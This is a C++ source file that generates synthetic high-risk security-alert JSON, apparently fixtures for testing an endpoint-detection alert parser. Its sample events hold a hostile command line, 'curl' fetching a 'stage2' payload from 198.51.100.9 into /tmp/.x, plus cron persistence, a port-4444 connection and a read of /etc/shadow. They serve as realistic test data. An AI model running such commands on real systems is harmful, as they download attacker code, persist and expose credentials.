#include "documents.h"

#include <cstdio>

namespace {

constexpr const char* kProcessKeys[] = {"ObjectPid",  "ObjectTid",  "ObjectImage", "ObjectCmd",    "ObjectCreateTime",
                                        "ObjectUser", "ObjectGuid", "ObjectMd5",   "ObjectSha256", "DecodedObjectCmd"};
constexpr const char* kCreateKeys[] = {"FileType", "FilePath"};
constexpr const char* kRenameKeys[] = {"FileType", "OldFilePath", "NewFilePath"};
constexpr const char* kConnectKeys[] = {"DstPort", "SrcPort", "DstIp", "Protocol", "SrcIp"};
constexpr const char* kOpenKeys[] = {"FilePath", "FileType"};

struct EventKind {
    unsigned type;
    std::span<const char* const> keys;
    const char* object;  // members of the object, as JSON
};
constexpr EventKind kKinds[kKindCount] = {
    {1, kProcessKeys,
     R"("ObjectPid":4711,"ObjectTid":4711,"ObjectImage":"/usr/bin/curl","ObjectCmd":"curl -fsSL http://198.51.100.9/stage2 -o /tmp/.x",)"
     R"("ObjectCreateTime":1715000002000,"ObjectUser":"root","ObjectGuid":"6f1b2c3d-0000-4000-8000-000000000002",)"
     R"("ObjectMd5":"9e107d9d372bb6826bd81d3542a419d6","ObjectSha256":"d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592",)"
     R"("DecodedObjectCmd":"curl -fsSL http://198.51.100.9/stage2 -o /tmp/.x")"},
    {6, kCreateKeys, R"("FileType":"elf","FilePath":"/tmp/.x/kworker")"},
    {8, kRenameKeys, R"("FileType":"script","OldFilePath":"/tmp/.x/job","NewFilePath":"/etc/cron.hourly/job")"},
    {14, kConnectKeys,
     R"("DstPort":4444,"SrcPort":50022,"DstIp":"198.51.100.9","Protocol":"tcp","SrcIp":"192.0.2.10")"},
    {26, kOpenKeys, R"("FilePath":"/etc/shadow","FileType":"text")"},
};

std::string event_json(int index) {
    const EventKind& kind = kKinds[index % kKindCount];
    const std::string number = std::to_string(100000 + index);
    return R"({"version":1,"type":)" + std::to_string(kind.type) +
           R"(,"SubjectPid":2311,"SubjectTid":2311,"SubjectImage":"/usr/bin/bash",)" +
           R"("SubjectCmd":"bash -c /tmp/.x/job )" + number +
           R"(","SubjectCreateTime":1715000000123,"SubjectUser":"root",)" +
           R"("LoginName":"deploy","SshIp":"192.0.2.7","SubjectMd5":"9e107d9d372bb6826bd81d3542a419d6",)" +
           R"("SubjectSha256":"d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592",)" +
           R"("SubjectGuid":"6f1b2c3d-0000-4000-8000-000000000001","OpTime":1715000)" + number +
           R"(,"Highlight":["/tmp/.x"],)" + kind.object + "}";
}

}  // namespace

std::span<const char* const> object_keys(unsigned type) {
    for (const EventKind& kind : kKinds)
        if (kind.type == type) return kind.keys;
    return {};
}

std::string make_document(int events) {
    std::string text =
        R"({"alert_type":3,"risk_level":"High","threat_score":80,"total_score":100,"verify_score":0,)"
        R"("verify_total_score":0,"count":1,"hash":123456789012345,"engine_ver":"1.0.4","engine_rule_ver":"20240506","rule":[)";
    for (int index = 0; index < events; ++index) {
        if (index % kRuleEvents == 0) {
            text += index == 0 ? "" : "]},";
            text +=
                R"({"rule_id":"R-)" + std::to_string(1000 + index / kRuleEvents) +
                R"(","mitre_id":"T1059.004","rule_desc":"shell started by a service",)" +
                R"("status":"Enable","score":8,"version":"1.2","rule_name":"Service shell","internal_id":"lnx-17","tags":["linux","shell"],)" +
                R"("risk_tag":"execution","confidence":80,"event":[)";
        } else {
            text += ",";
        }
        text += event_json(index);
    }
    return text + R"(]}],"Guid":"0a1b2c3d-1111-4222-8333-444455556666"})";
}
